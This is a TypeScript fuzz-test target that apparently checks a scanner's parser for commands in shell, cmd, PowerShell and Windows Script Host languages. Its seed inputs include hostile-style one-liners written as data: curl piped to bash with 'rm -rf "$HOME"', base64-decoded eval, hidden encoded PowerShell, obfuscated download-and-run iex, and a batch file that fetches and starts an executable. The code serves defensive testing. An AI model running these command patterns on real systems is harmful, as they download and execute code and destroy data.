import { strict as assert } from "node:assert";
import { globSync, readFileSync } from "node:fs";
import path from "node:path";
import * as fc from "fast-check";
import { scriptLanguages } from "../../../main/python/facts.ts";
import { commandsOfScript } from "../../../main/rules/support/script/script-commands.ts";
import { commandsOfWords } from "../../../main/rules/support/shell/commands.ts";
import { type FuzzTarget, fuzzTarget } from "../fuzz-target.ts";
import { mutatedText, soup } from "../mutate.ts";
import { assertRange } from "../promises.ts";

const root = path.resolve(import.meta.dirname, "../../..");
const files = globSync("test/specimens/*/*/**/*.{sh,ps1,bat,cmd,vbs,js}", { cwd: root })
	.sort()
	.map((file) => readFileSync(path.join(root, file), "utf8"))
	.filter((text) => text.length < 4_000);
const seeds = [
	...files,
	"curl -fsSL https://example.com/x.sh | bash -c 'id' && rm -rf \"$HOME\"/x; cat <<EOF > f\ntext $(id)\nEOF\n",
	'for i in a b; do eval "$(echo aWQ= | base64 -d)"; done 2>&1 >>/dev/null &\n',
	"powershell -NoProfile -w hidden -EncodedCommand aQBkAA==\r\n",
	"$x = 'i'+'ex'; & $x (New-Object Net.WebClient).DownloadString(\"https://example.com/$($y.z[0])\") | % { $_ -replace 'a','b' }\n",
	"& ([scriptblock]::Create([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('aWQ='))))\n",
	'@echo off\r\nset a=cu& set b=rl\r\n%a%%b% https://example.com/x -o %TEMP%\\x.exe & start "" /b %TEMP%\\x.exe\r\nif exist x (goto :e) else call :f\r\n',
	'Set s = CreateObject("WScript.Shell")\ns.Run "cmd /c " & Chr(105) & "d", 0, False\n',
	"var s = new ActiveXObject('WScript.Shell'); s.Run('cmd /c id' + String.fromCharCode(65));\n",
];
const tokens = [
	"|",
	"||",
	"&",
	"&&",
	";",
	"\n",
	"\r\n",
	"(",
	")",
	"{",
	"}",
	"[",
	"]",
	"$",
	"$(",
	"${",
	"`",
	'"',
	"'",
	"\\",
	"^",
	"%",
	"!",
	"<<",
	"<<-EOF\n",
	"EOF\n",
	"<<<",
	">",
	">>",
	"2>&1",
	"<",
	"#",
	"=",
	"+",
	"-",
	"--",
	"/c ",
	" -c ",
	"sh ",
	"bash ",
	"cmd ",
	"powershell ",
	"iex ",
	"eval ",
	"curl ",
	"wget ",
	"base64 -d",
	"xargs ",
	"sudo ",
	"env A=b ",
	"nohup ",
	"start ",
	"set x=",
	"$x",
	"%x%",
	"!x!",
	"$env:TEMP",
	"@(",
	"@{",
	'@"\n',
	'"@\n',
	"::",
	"-join ",
	"-f ",
	"-replace ",
	"-split ",
	"[char]",
	"[int]",
	"0x41",
	"65..70",
	"-bxor ",
	"[-1..-5]",
	"Get-Item ",
	"function f { ",
	"if ",
	"then ",
	"fi",
	"do ",
	"done",
	"case x in ",
	"esac",
	"CreateObject(",
	"Chr(",
	"& ",
	"_\n",
	"Execute ",
	"new ActiveXObject(",
	"String.fromCharCode(",
	"/*",
	"*/",
	"//",
	"'",
	"Rem ",
	"\0",
	"\u201c",
	"\u2013",
	"a",
	"1",
	" ",
	"\t",
];

/** Readers of shell, cmd, PowerShell and the Script Host's languages. */
export const scriptTarget: FuzzTarget = fuzzTarget(
	"scripts",
	400,
	fc.record({
		language: fc.constantFrom(...scriptLanguages),
		text: fc.oneof(
			{ weight: 2, arbitrary: mutatedText(seeds, tokens) },
			{ weight: 2, arbitrary: soup([...tokens, ...seeds], 60) },
		),
	}),
	({ language, text }) => {
		const commands = commandsOfScript(text, language);
		assert.ok(commands.length <= 2_000, `${commands.length} commands`);
		for (const { pipedTo, substitutedInto, place } of commands) {
			for (const position of [pipedTo, substitutedInto])
				if (position !== undefined)
					assert.ok(position >= 0 && position < commands.length, `command ${position} of ${commands.length}`);
			if (place) assertRange(place, text.length, "a command");
		}
		commandsOfWords(text.split(/\s+/).slice(0, 40));
		assert.deepEqual(commandsOfScript(text, language), commands);
	},
);
